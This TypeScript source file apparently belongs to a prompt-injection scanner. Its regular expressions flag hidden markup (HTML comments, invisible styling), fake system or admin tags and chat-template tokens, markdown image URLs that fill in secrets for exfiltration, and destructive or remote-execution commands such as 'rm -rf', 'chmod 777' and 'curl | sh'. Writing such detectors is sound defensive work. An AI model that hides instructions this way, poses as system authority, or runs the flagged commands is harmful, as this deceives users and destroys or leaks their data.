/**
 * Carriers that hide text from the human or dress it as authority (THREAT_MODEL.md, prompt
 * injection: hidden markup): HTML comments, elements styled invisible, markdown comments, chat
 * template tokens and tags such as `<system>`, `[SYSTEM NOTICE]` or `{"role": "system"}`. Their
 * text is scanned with the rest; here we only say that the carrier is there.
 */
export interface Carriers {
  /** Text a reader does not see: comments, hidden elements, zero-size or white text. */
  readonly hidden: boolean;
  /** A tag or label claiming the voice of the system, an admin or the model's own turn. */
  readonly authorityMarkup: boolean;
  /** A URL whose query is a template to fill (`![x](https://h/p.png?d={secrets})`): exfiltration by rendering. */
  readonly urlTemplate: boolean;
  /** A shell or SQL command that destroys or runs code from afar (rm -rf, chmod 777, curl | sh). */
  readonly dangerousCommand: boolean;
}

const URL_TEMPLATE = /https?:\/\/[^\s)"']{1,200}?[?&][a-z0-9_]{1,30}=(?:\{|\$\{|%7b|<[a-z]|\[[a-z])/;
const DANGEROUS = /\brm\s-[a-z]{0,3}r[a-z]{0,3}\s{1,3}[~/*$]|\bchmod\s(?:-r\s)?777\b|\bdrop\s(?:table|database)\b|\|\s{0,2}(?:ba|z)?sh\b|\bmkfs\b|--force\b|\bgit\spush\s-f\b/;

const HIDDEN =
  /<!--|<(?:div|span|p|font|section|td|template|noscript)\b[^>]{0,300}?(?:display\s?:\s?none|visibility\s?:\s?hidden|font-size\s?:\s?0|opacity\s?:\s?0|color\s?[:=]\s?["']?(?:white|#fff\b|#ffffff)|\bhidden\b|aria-hidden|sr-only|left\s?:\s?-\d{3,})|<(?:template|noscript)\b|\[(?:\/\/|comment)\]\s?:\s?#|<meta\s[^>]{0,80}?name\s?=\s?["']?ai-|\balt\s?=\s?["'][^"']{0,40}\b(?:assistant|model|agent|ai)\b/;
const TAG_WORDS = 'system|system_prompt|system-prompt|system-reminder|sys|admin|important|assistant_instructions|ai_instructions|tool_instructions|developer|override|im_start|im_end';
const AUTHORITY =
  new RegExp(String.raw`<\|?\s?\/?\s?(?:${TAG_WORDS})\b[^>\n]{0,20}\|?>|<<\/?sys>>|\[\/?inst\]|\[(?:system|admin|developer|assistant)\b[^\]\n]{0,40}\]|"role"\s?:\s?"system"|#{2,}\s?(?:new\s)?(?:system|admin)\b|-{3,}begin system|>{2,}\s?system\b|\((?:#override|#system)\)`);

/** Words every HIDDEN / AUTHORITY match contains: indexOf answers "none here" faster than the regex. */
const HIDDEN_HINTS = ['<!--', 'none', 'hidden', 'size', 'opacity', 'color', '#', '<template', '<noscript', 'ai-', 'alt', 'left'];
const AUTHORITY_HINTS = ['sys', 'admin', 'important', 'instructions', 'developer', 'override', 'im_', 'inst]'];

export function findCarriers(lower: string): Carriers {
  const maybeTag = lower.includes('<') || lower.includes('[') || lower.includes('#') || lower.includes('"role"') || lower.includes('>>') || lower.includes('---');
  return {
    hidden: maybeTag && HIDDEN_HINTS.some((h) => lower.includes(h)) && HIDDEN.test(lower),
    authorityMarkup: maybeTag && AUTHORITY_HINTS.some((h) => lower.includes(h)) && AUTHORITY.test(lower),
    urlTemplate: lower.includes('://') && URL_TEMPLATE.test(lower),
    dangerousCommand: (lower.includes('rm') || lower.includes('77') || lower.includes('drop') || lower.includes('sh') || lower.includes('force') || lower.includes('push')) && DANGEROUS.test(lower),
  };
}
